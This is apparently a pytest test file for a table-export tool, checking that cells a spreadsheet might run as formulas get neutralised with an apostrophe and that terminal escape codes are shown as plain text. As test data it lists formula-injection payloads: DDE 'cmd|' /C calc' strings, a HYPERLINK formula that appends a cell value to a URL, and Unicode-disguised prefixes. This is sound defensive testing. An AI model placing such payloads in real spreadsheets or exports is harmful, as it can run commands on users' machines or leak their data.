"""No downloaded table runs anything in a spreadsheet, and its values come back."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from engine import console
from engine.certificate import Expected, What, certify
from engine.cli import main
from engine.errors import WriteError
from engine.table import formulas
from engine.table.formulas import KEEP, NEUTRALISE, as_in_source, counts, is_formula, neutralised, undone
from engine.table.infer import infer_schema
from engine.table.schema import Column, Kind, NumberFormat, Schema
from engine.table.write import to_bytes

RUN = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+SUM(A1:A2)",
    "-2+3+cmd|' /C calc'!A0",
    "-A1",
    "+1+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\ttext",
    "  =1+1",
    '"=1+1"',
    '" =1+1',
    "＝1+1",
    "＋SUM(A1)",
    "－A1",
    "＠SUM(A1)",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u00a0=1+1",
    "\x00=1+1",
    "=",
    "@handle",
    "- a list's entry",
    "-5)*cmd|' /C calc'!A0",
    "+49 30 1234567|cmd",
)
SAFE = (
    "", "5", "-5", "+5", "- 5", "-5.25", "-1,234.50", "-1.234,50 €", "-$5", "-€ 5", "-USD 1,000", "-5 %", "-12.5 kg",
    "-1e-05", "+1.5E+10", "-.5", "-inf", "+02:00", "-01:30", "-0044-03-15", "-1 days +02:00:00", "+49 30 1234567",
    "+1 (555) 123-4567", "+1-555-123-4567x890", "+41.44.668.18.00", "+", "-", "--", "+++", "+/-", "2024-01-05", "a=b",
    "a@b.org", "'=1+1", "(5)", "plain", "#N/A", "−5",
)  # fmt: skip


@pytest.mark.parametrize("cell", RUN)
def test_what_a_spreadsheet_might_run_gets_an_apostrophe(cell: str) -> None:
    assert neutralised(cell) == f"'{cell}"
    assert neutralised(neutralised(cell)) == f"'{cell}"
    assert undone(neutralised(cell)) == cell


@pytest.mark.parametrize("cell", SAFE)
def test_numbers_dates_telephones_and_plain_text_stay(cell: str) -> None:
    assert neutralised(cell) == cell


def test_a_value_of_the_source_keeps_its_apostrophe() -> None:
    assert undone("'=x", {"'=x"}) == "'=x"
    assert undone("'tis", ()) == "'tis"


@settings(max_examples=300, deadline=None)
@given(st.text(st.sampled_from("=+-@ \t\r\n'\"0123456789.,eExA(|!") | st.characters(exclude_categories=("Cs",))))
def test_nothing_that_is_written_begins_like_a_formula(cell: str) -> None:
    written = neutralised(cell)
    assert not is_formula(written)
    assert written.removeprefix("'") in (cell, cell.removeprefix("'"))
    first = written.strip().strip('"').strip()[:1]
    if first in ("=", "@"):
        pytest.fail(f"{written!r} would be run")


def hostile(rows: int = 60) -> pd.DataFrame:
    """A table with such cells in every kind of column, a name among them, and numbers that only begin alike."""
    rng = np.random.default_rng(0)
    return pd.DataFrame(
        {
            "=cmd|' /C calc'!A0": rng.choice(["=1+1", "@SUM(A1)", "plain"], rows),
            "change": rng.normal(0, 10, rows).round(2).astype(str),
            "phone": [f"+49 30 {n:07d}" for n in rng.integers(0, 10**7, rows)],
            "grade": rng.choice(["+", "-", "--"], rows),
        }
    )


@pytest.fixture(scope="module")
def schema() -> Schema:
    return infer_schema(hostile())


def rows_of(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode(), newline="")))


@pytest.mark.parametrize("key", ["csv", "tsv"])
def test_text_files_are_harmless_by_default_and_as_they_are_on_request(schema: Schema, key: str) -> None:
    table = schema.parse(hostile())
    delimiter = "," if key == "csv" else "\t"
    for choice, risky in ((NEUTRALISE, False), (KEEP, True)):
        content = to_bytes(table, schema, key, choice)
        cells = [c for row in csv.reader(io.StringIO(content.decode()), delimiter=delimiter) for c in row]
        assert any(map(is_formula, cells)) is risky
    assert rows_of(to_bytes(table, schema, "csv", KEEP))[1:] == hostile().to_numpy().tolist()
    assert to_bytes(table, schema, key) == to_bytes(table, schema, key, NEUTRALISE)


def test_what_was_neutralised_comes_back_as_the_source_has_it(schema: Schema) -> None:
    rows = rows_of(to_bytes(schema.parse(hostile()), schema, "csv"))
    again = pd.DataFrame(rows[1:], columns=rows[0], dtype="str")
    assert list(again.columns) != list(hostile().columns)
    pd.testing.assert_frame_equal(as_in_source(again, hostile()), hostile().astype("str"), check_column_type=False)


@pytest.mark.parametrize("key", ["parquet", "json", "jsonl"])
def test_typed_files_are_never_changed(schema: Schema, key: str) -> None:
    table = schema.parse(hostile())
    assert to_bytes(table, schema, key) == to_bytes(table, schema, key, KEEP)


def test_excel_holds_text_marked_as_text_and_no_formula(schema: Schema) -> None:
    table = schema.parse(hostile())
    for choice in (NEUTRALISE, KEEP):
        sheet = openpyxl.load_workbook(io.BytesIO(to_bytes(table, schema, "xlsx", choice))).active
        assert sheet is not None
        cells = [cell for row in sheet.iter_rows() for cell in row]
        risky = [cell for cell in cells if isinstance(cell.value, str) and is_formula(cell.value)]
        assert {cell.value for cell in risky} == {"=cmd|' /C calc'!A0", "=1+1", "@SUM(A1)"}
        assert {cell.data_type for cell in risky} == {"s"}
        assert {bool(cell.quotePrefix) for cell in risky} == {choice == NEUTRALISE}
        assert not any(cell.quotePrefix for cell in cells if cell not in risky)


def test_a_number_whose_unit_is_a_command_is_found() -> None:
    column = Column("x", Kind.INTEGER, number=NumberFormat(prefix="=cmd|' /C calc'!A"))
    schema = Schema((column,))
    table = pd.DataFrame({"x": pd.Series([1, 2, 2], dtype="Int64")})
    assert counts(table, schema) == {"x": 3}
    assert rows_of(to_bytes(table, schema, "csv"))[1] == ["'=cmd|' /C calc'!A1"]


def test_an_unknown_choice_is_refused(schema: Schema) -> None:
    with pytest.raises(WriteError, match="neutralise"):
        to_bytes(schema.parse(hostile()), schema, "csv", "run")


# The certificate


def certified(change: Callable[[pd.DataFrame], pd.DataFrame], schema: Schema, key: str, written: str, asked: str):  # type: ignore[no-untyped-def]
    table = change(schema.parse(hostile()))
    expected = Expected(schema, schema.parse(hostile()), len(table), formulas=asked)
    return certify(to_bytes(table, schema, key, written), key, expected)


@pytest.mark.parametrize("key", ["csv", "csv.gz", "tsv", "xlsx", "parquet", "json"])
def test_the_certificate_of_a_neutralised_file_holds_and_tells(schema: Schema, key: str) -> None:
    found = certified(lambda t: t.assign(phone=t["phone"].str[:-1] + "x"), schema, key, NEUTRALISE, NEUTRALISE)
    assert found.failed == ()
    told = [c for checks in [found.table, *found.columns.values()] for c in checks if c.what is What.FORMULAS]
    assert len(told) == (2 if key in formulas.TEXT_FORMATS else 0)  # the name, and the cells of its column


def test_the_certificate_fails_where_a_cell_can_still_be_run(schema: Schema) -> None:
    def new(table: pd.DataFrame) -> pd.DataFrame:
        return table.assign(phone=table["phone"].str[:-1] + "x")

    wrong = certified(new, schema, "csv", KEEP, NEUTRALISE)
    assert {check.what for _, check in wrong.failed} == {What.FORMULAS}
    assert certified(new, schema, "csv", KEEP, KEEP).failed == ()


def test_a_real_value_behind_an_apostrophe_is_still_a_real_value() -> None:
    frame = pd.DataFrame({"t": [f"=secret {i} of somebody's notes" for i in range(40)]})
    schema = Schema((Column("t", Kind.TEXT),))
    table = schema.parse(frame)
    found = certify(to_bytes(table, schema, "csv"), "csv", Expected(schema, table, len(table)))
    assert What.NEW in {check.what for _, check in found.failed}


# The command line


def test_the_command_line_neutralises_tells_and_has_a_switch(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source, out, figures = tmp_path / "a.csv", tmp_path / "out.csv", tmp_path / "figures.json"
    hostile(80)[["=cmd|' /C calc'!A0", "change"]].to_csv(source, index=False)
    learn = ["generate", str(source), "--out", str(out), "--method", "marginals", "--rare", "keep"]
    assert main(learn) == 0
    assert "begin like a formula" in capsys.readouterr().err
    cells = [c for row in rows_of(out.read_bytes()) for c in row]
    assert not any(map(is_formula, cells))
    assert "'=1+1" in cells
    # Measured, the twin's labels are those of the real table.
    assert main(["evaluate", str(source), str(out), "--json", str(figures)]) == 0
    assert json.loads(figures.read_text())["metrics"]["coverage"]["value"] > 0.9
    assert main([*learn, "--formulas", "keep"]) == 0
    assert any(map(is_formula, (c for row in rows_of(out.read_bytes()) for c in row)))


def test_names_and_values_give_a_terminal_no_orders(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    console.say("\x1b[2J\x1b]0;title\x07 red\u202e\tok\nline")
    assert capsys.readouterr().out == "\\x1b[2J\\x1b]0;title\\x07 red\\u202e\tok\nline\n"
    assert main(["evaluate", str(tmp_path / "\x1b[2J.csv"), "x.csv"]) == 2
    assert "\x1b" not in capsys.readouterr().err
